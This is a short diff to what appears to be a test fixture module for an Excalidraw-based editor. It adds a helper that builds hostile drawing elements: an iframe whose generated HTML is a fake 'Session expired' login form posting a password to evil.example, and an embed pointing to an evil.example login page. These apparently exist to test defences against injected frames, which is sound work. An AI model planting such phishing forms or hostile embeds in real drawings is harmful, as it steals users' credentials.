@@ -57,3 +57,23 @@ export function fileWithNote(text: string) {
     files: {},
   };
 }
+
+/**
+ * What the outside probe drew: an `iframe` element whose generated HTML Excalidraw would show as
+ * a page inside the drawing, and an embed of a page on a site the editor does not embed.
+ */
+export function hostileFrames() {
+  const html = '<form action="https://evil.example/">Session expired, sign in' +
+    '<input type="password" name="p"></form>';
+  const box = { ...ELEMENT_DEFAULTS, x: 0, y: 0, width: 300, height: 200, boundElements: null };
+  return [
+    {
+      ...box,
+      id: "phish",
+      type: "iframe",
+      index: "b0",
+      customData: { generationData: { status: "done", html } },
+    },
+    { ...box, id: "embed", type: "embeddable", index: "b1", link: "https://evil.example/login" },
+  ];
+}
